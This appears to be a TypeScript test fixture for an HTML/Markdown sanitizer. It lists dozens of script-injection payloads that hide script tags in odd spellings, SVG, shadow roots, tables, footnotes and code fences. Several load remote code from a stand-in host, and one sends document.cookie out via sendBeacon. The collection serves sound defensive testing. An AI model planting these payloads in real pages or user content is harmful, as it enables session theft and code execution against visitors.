// Script elements in many spellings, namespaces, and positions.
import { EVIL, family, together } from "./input";

export const scripts = family(
  "script",
  "a dialog, a global of theirs, or a request to their host",
  {
    spellings: together(
      "<script>alert('plain')</script>",
      "<ScRiPt>alert('case')</sCrIpT>",
      "Words before <script>alert('inline')</script> and words after.",
      "<scr<script>ipt>alert('nested')</scr</script>ipt>",
      "<<script>alert('doubled');//<</script>",
      "<script/anything>alert('slash')</script>",
      "<script\n>alert('broken line')</script\n>",
      "<script\u000c>alert('form feed')</script\u000c>",
      "<scr\u0000ipt>alert('null')</scr\u0000ipt>",
      "<script>alert('end tag')</script class='x' onclick='y'>",
    ),
    unclosed: "<script>alert('unclosed')",
    "without-end-bracket": "<script>alert('no bracket')</script",
    sources: together(
      `<script src="https://${EVIL}/remote.js"></script>`,
      `<script src=//${EVIL}/relative.js></script>`,
      "<script/src=data:text/javascript,alert('data')></script>",
      `<script type="module">import "https://${EVIL}/module.mjs";</script>`,
      `<script async defer nomodule src="https://${EVIL}/async.js"></script>`,
      `<script>navigator.sendBeacon("https://${EVIL}/beacon", document.cookie)</script>`,
    ),
    "html-comment-inside": "<script><!--\nalert('comment')\n//--></script>",
    "double-escaped-state":
      "<script><!--<script></script>--></script><script>alert('state')</script>",
    "in-svg": together(
      "<svg><script>alert('svg')</script></svg>",
      "<svg><script>&#97;lert&lpar;'entities'&rpar;</script></svg>",
      "<svg><script href='data:text/javascript,alert(1)' /></svg>",
      `<svg><script xlink:href="https://${EVIL}/x.js"></script></svg>`,
      "<svg><script><![CDATA[alert('cdata')]]></script></svg>",
      "<math><script>alert('math')</script></math>",
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert("prefix")</x:script><svg:script>alert(1)</svg:script>',
    ),
    "in-raw-text": together(
      "<template><script>alert('template')</script></template>",
      "<noscript><script>alert('noscript')</script></noscript>",
    ),
    "in-shadow-root":
      '<div><template shadowrootmode="open"><script>alert("shadow")</script><slot></slot></template>text</div>',
    "in-blocks": together(
      "<details open><summary><script>alert(1)</script>More</summary>\n\nText\n\n</details>",
      "| A |\n| - |\n| <script>alert('cell')</script> |",
      "- one\n- <script>alert('item')</script>\n  1. <script>alert('inner')</script>",
      "> quoted\n> <script>alert('quoted')</script>",
      "## Heading <script>alert('heading')</script>\n\n### `<script>alert(1)</script>`",
    ),
    "in-phrases": together(
      "[text <script>alert('link')</script>](https://example.com/)",
      "![<script>alert('picture')</script>](./picture.png)",
      "A note[^1].\n\n[^1]: <script>alert('footnote')</script>",
      "~~<script>alert('gone')</script>~~ **<script>alert('bold')</script>**",
      '[x]: https://example.com/ "</a><script>alert(1)</script>"\n\n[x]',
    ),
    "after-comments": together(
      "<!--[if gte IE 4]><script>alert('conditional')</script><![endif]-->",
      "<!-- comment --><script>alert('after')</script>",
    ),
    "as-data": together(
      `<script type="importmap">{"imports":{"react":"https://${EVIL}/react.mjs"}}</script>`,
      `<script type="speculationrules">{"prerender":[{"urls":["https://${EVIL}/next"]}],"prefetch":[{"urls":["https://${EVIL}/soon"]}]}</script>`,
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      '<script id="gatsby-script-loader">window.pagePath = "/elsewhere/"</script>',
    ),
    "writes-global":
      "<script>window.escaped = document.title; Object.prototype.escaped = 1;</script>",
    worker: `<script>navigator.serviceWorker.register("data:text/javascript,1"); new Worker("https://${EVIL}/w.js")</script>`,
    "behind-many-lines": `${"A line of text.\n\n".repeat(400)}<script>alert('far down')</script>`,
    "in-code": together(
      "`<script>alert('code')</script>`\n\n```html\n</code></pre><script>alert('fence')</script>\n```",
      "    </pre><script>alert('indented')</script>",
      "&lt;script&gt;alert('entities')&lt;/script&gt; &amp;lt;script&amp;gt;",
    ),
  },
);
